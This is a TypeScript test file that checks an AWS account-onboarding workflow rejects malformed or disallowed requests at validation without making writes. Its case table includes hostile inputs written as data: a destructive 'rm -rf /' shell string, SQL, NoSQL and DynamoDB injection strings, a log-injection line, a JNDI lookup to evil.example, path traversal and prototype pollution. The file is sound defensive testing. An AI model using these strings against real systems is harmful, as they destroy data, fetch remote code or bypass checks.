/**
 * Proof under bad input: every request that must not be onboarded ends FAILED at validation, with a
 * named error (InvalidRequest, InvalidAccountId, AccountNotFound, AccountNotActive, AccountNotAllowed)
 * and a cause a person can act on; the history is ValidateRequest -> DescribeRejection -> Rejected,
 * and no write call is made anywhere (not to AWS, not even to the status table).
 *
 * The full table (test/local/e2e/bad-input.test.ts holds the first eleven; all are covered here too).
 */
import { MAX_REQUEST_BYTES } from '../../../handlers/domain/request';
import { DEMO, startLocal, writes, type Local } from '../harness';

const MEMBER = DEMO.memberAccountIds[0];
const OUTSIDE = '123412341234';
const CLOSED = '987600001234';
const PENDING_CLOSURE = '987600005678';
const UNKNOWN_ANYWHERE = '010203040506';

let local: Local;
beforeAll(async () => {
  local = await startLocal();
  local.world.addAccount(OUTSIDE, { name: 'outside-the-organization' });
  local.world.accounts.add({ id: CLOSED, name: 'closed-member', state: 'CLOSED' }, true, local.world.now());
  local.world.accounts.add({ id: PENDING_CLOSURE, name: 'closing-member', state: 'PENDING_CLOSURE' }, true, local.world.now());
});
afterAll(() => local.stop());

/** The hint every InvalidAccountId message ends with: what a valid request looks like. */
const EXAMPLE = /Example: \{"accountId": "\d{12}"\}/;
/** What every InvalidRequest message says is expected. */
const EXPECTED = /expected \{"accountId": "<12-digit AWS account id>"\}/;

type Case = [label: string, input: unknown, error: string, hints: RegExp[]];

const CASES: Case[] = [
  // ---- the shape of the request
  ['an empty object', {}, 'InvalidRequest', [/no accountId/, EXPECTED]],
  ['an array of requests', [{ accountId: MEMBER }], 'InvalidRequest', [/is an array/, EXPECTED]],
  ['a bare string', MEMBER, 'InvalidRequest', [/is a string, not an object/, EXPECTED]],
  ['a bare number', 444455556666, 'InvalidRequest', [/is a number, not an object/, EXPECTED]],
  ['an unknown field', { accountId: MEMBER, force: true }, 'InvalidRequest', [/unknown field "force"/, EXPECTED]],
  ['several unknown fields', { accountId: MEMBER, region: 'eu-west-1', dryRun: false }, 'InvalidRequest', [/unknown fields "region", "dryRun"/, EXPECTED]],
  ['a misspelt field name', { accountID: MEMBER }, 'InvalidRequest', [/unknown field "accountID"/, EXPECTED]],
  ['a prototype-pollution key', JSON.parse(`{"accountId":"${MEMBER}","__proto__":{"isAdmin":true}}`), 'InvalidRequest', [/unknown field "__proto__"/, EXPECTED]],
  ['a huge payload (100 KB of padding)', { accountId: MEMBER, padding: 'x'.repeat(100_000) }, 'InvalidRequest', [/100\d{3} bytes; at most 4096 are accepted/, EXPECTED]],
  ['a huge account id (10 KB)', { accountId: '4'.repeat(10_000) }, 'InvalidRequest', [new RegExp(`at most ${MAX_REQUEST_BYTES}`), EXPECTED]],

  // ---- the type of accountId
  ['accountId null', { accountId: null }, 'InvalidAccountId', [/accountId is null; it must be a string of 12 digits/, EXAMPLE]],
  ['accountId a number', { accountId: 444455556666 }, 'InvalidAccountId', [/is a number; give it as a string of 12 digits in quotes/, EXAMPLE]],
  ['accountId a negative number', { accountId: -444455556666 }, 'InvalidAccountId', [/is a number; give it as a string/, EXAMPLE]],
  ['accountId a number that lost its leading zero', { accountId: 12345678901 }, 'InvalidAccountId', [/a number loses leading zeros/, EXAMPLE]],
  ['accountId a boolean', { accountId: true }, 'InvalidAccountId', [/of type boolean; it must be a string of 12 digits/, EXAMPLE]],
  ['accountId an array', { accountId: [MEMBER] }, 'InvalidAccountId', [/is an array; it must be a string of 12 digits/, EXAMPLE]],
  ['accountId a nested object', { accountId: { id: MEMBER } }, 'InvalidAccountId', [/of type object; it must be a string of 12 digits/, EXAMPLE]],
  ['accountId a query operator (NoSQL injection)', { accountId: { $ne: '' } }, 'InvalidAccountId', [/of type object/, EXAMPLE]],

  // ---- the text of accountId
  ['an empty string', { accountId: '' }, 'InvalidAccountId', [/accountId is empty; it must be 12 digits/, EXAMPLE]],
  ['5 digits', { accountId: '12345' }, 'InvalidAccountId', [/has 5 digits; an AWS account id has exactly 12/, EXAMPLE]],
  ['11 digits', { accountId: '44445555666' }, 'InvalidAccountId', [/has 11 digits; an AWS account id has exactly 12/, EXAMPLE]],
  ['13 digits', { accountId: '4444555566667' }, 'InvalidAccountId', [/has 13 digits; an AWS account id has exactly 12/, EXAMPLE]],
  ['spaces around the id', { accountId: ` ${MEMBER} ` }, 'InvalidAccountId', [/contains spaces or other white space; remove them/, EXAMPLE]],
  ['a trailing newline', { accountId: `${MEMBER}\n` }, 'InvalidAccountId', [/white space; remove them/, EXAMPLE]],
  ['dashes as the console shows it', { accountId: '4444-5555-6666' }, 'InvalidAccountId', [/"4444-5555-6666" contains characters other than the digits 0-9/, EXAMPLE]],
  ['a negative id as a string', { accountId: '-44445555666' }, 'InvalidAccountId', [/contains characters other than the digits 0-9/, EXAMPLE]],
  ['an ARN instead of an id', { accountId: `arn:aws:iam::${MEMBER}:root` }, 'InvalidAccountId', [/contains characters other than the digits 0-9/, EXAMPLE]],
  ['Arabic-Indic digits', { accountId: '٤٤٤٤٥٥٥٥٦٦٦٦' }, 'InvalidAccountId', [/"٤٤٤٤٥٥٥٥٦٦٦٦" contains characters other than the digits 0-9/, EXAMPLE]],
  ['full-width digits', { accountId: '４４４４５５５５６６６６' }, 'InvalidAccountId', [/contains characters other than the digits 0-9/, EXAMPLE]],
  ['SQL injection', { accountId: "444455556666' OR '1'='1" }, 'InvalidAccountId', [/white space|characters other than the digits/, EXAMPLE]],
  ['a DynamoDB expression', { accountId: '444455556666)OR(attribute_exists(pk)' }, 'InvalidAccountId', [/characters other than the digits 0-9/, EXAMPLE]],
  ['a shell command', { accountId: '444455556666;rm${IFS}-rf${IFS}/' }, 'InvalidAccountId', [/characters other than the digits 0-9/, EXAMPLE]],
  ['a log-injection attempt', { accountId: '444455556666\r\n{"level":"INFO","msg":"onboarded"}' }, 'InvalidAccountId', [/white space; remove them/, EXAMPLE]],
  ['a template/JNDI string', { accountId: '${jndi:ldap://evil.example/a}' }, 'InvalidAccountId', [/characters other than the digits 0-9/, EXAMPLE]],
  ['a path traversal', { accountId: '../../444455556666' }, 'InvalidAccountId', [/characters other than the digits 0-9/, EXAMPLE]],
  ['a NUL byte after the id', { accountId: `${MEMBER}\u0000` }, 'InvalidAccountId', [/characters other than the digits 0-9/, EXAMPLE]],

  // ---- the account itself
  ['the management account', { accountId: DEMO.managementAccountId }, 'AccountNotAllowed', [/is the Organizations management account/, /Set allowManagementAccount: true/]],
  ['the log-archive account', { accountId: DEMO.logArchiveAccountId }, 'AccountNotAllowed', [/is the log-archive account/, /Set allowLogArchiveAccount: true/]],
  ['a suspended account', { accountId: DEMO.suspendedAccountId }, 'AccountNotActive', [/\(suspended-member\) is SUSPENDED in Organizations/, /Only ACTIVE accounts can be onboarded/]],
  ['a closed account', { accountId: CLOSED }, 'AccountNotActive', [new RegExp(`${CLOSED} \\(closed-member\\) is CLOSED`), /Only ACTIVE accounts can be onboarded/]],
  ['an account being closed', { accountId: PENDING_CLOSURE }, 'AccountNotActive', [/is PENDING_CLOSURE/, /Only ACTIVE accounts/]],
  ['an account outside the organization', { accountId: OUTSIDE }, 'AccountNotFound', [new RegExp(`${OUTSIDE} is not in organization ${DEMO.organizationId}`), /invite the account into the organization/]],
  ['an account that exists nowhere', { accountId: UNKNOWN_ANYWHERE }, 'AccountNotFound', [new RegExp(`${UNKNOWN_ANYWHERE} is not in organization`), /Check the id/]],
];

describe.each(CASES)('%s', (_label, input, errorName, hints) => {
  it(`ends FAILED at validation with ${errorName}, says what to do, and makes no write call`, async () => {
    // prepare
    local.world.resetCalls();

    // act
    const r = await local.run(input);

    // assert: a named error...
    expect({ status: r.status, error: r.error }).toEqual({ status: 'FAILED', error: errorName });
    // ... with a cause a person can act on (short, and never the raw payload)
    for (const hint of hints) expect(r.cause).toMatch(hint);
    expect(r.cause!.length).toBeLessThan(400);
    // ... rejected at validation, nothing else ran
    expect(r.history.filter((h) => h.type === 'StateEntered').map((h) => h.state)).toEqual(['ValidateRequest', 'DescribeRejection', 'Rejected']);
    expect(r.history.filter((h) => h.type === 'StateRetried')).toEqual([]);
    // ... and wrote nothing in AWS; a valid id refused is recorded REJECTED (one status item write), nothing else
    const refused = ['AccountNotFound', 'AccountNotActive', 'AccountNotAllowed'].includes(errorName);
    expect(writes(local.world)).toEqual(refused ? ['dynamodb:UpdateItem'] : []);
  });
});

/**
 * An execution input of JSON `null` (a direct StartExecution with input "null"; the API, the event
 * function and the CLI always send {"accountId": ...}). ValidateRequest takes the raw input from the
 * context object (`$$.Execution.Input`), so even a null input reaches the handler's own check instead
 * of failing the Parameters path with States.Runtime.
 */
describe('null instead of a request', () => {
  it('ends FAILED at validation with InvalidRequest, says what to do, and makes no write call', async () => {
    local.world.resetCalls();
    const r = await local.run(null);
    expect({ status: r.status, error: r.error }).toEqual({ status: 'FAILED', error: 'InvalidRequest' });
    expect(r.cause).toMatch(/request is empty/);
    expect(r.cause).toMatch(EXPECTED);
    expect(r.history.filter((h) => h.type === 'StateEntered').map((h) => h.state)).toEqual(['ValidateRequest', 'DescribeRejection', 'Rejected']);
    expect(writes(local.world)).toEqual([]);
  });
});

describe('the table', () => {
  it('has at least 20 cases and every validation error', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(20);
    expect(new Set(CASES.map((c) => c[2]))).toEqual(new Set(['InvalidRequest', 'InvalidAccountId', 'AccountNotFound', 'AccountNotActive', 'AccountNotAllowed']));
  });

  it('no rejected request left a member or a lease; a refused valid id is REJECTED with its error, a malformed one left nothing', async () => {
    expect(await local.status.members()).toEqual([]);
    expect(await local.status.getAccount(MEMBER)).toBeUndefined();
    const refused = [OUTSIDE, CLOSED, PENDING_CLOSURE, UNKNOWN_ANYWHERE, DEMO.managementAccountId, DEMO.logArchiveAccountId, DEMO.suspendedAccountId];
    for (const id of refused) expect(await local.status.getAccount(id)).toMatchObject({ status: 'REJECTED', error: { step: 'ValidateRequest' } });
  });
});
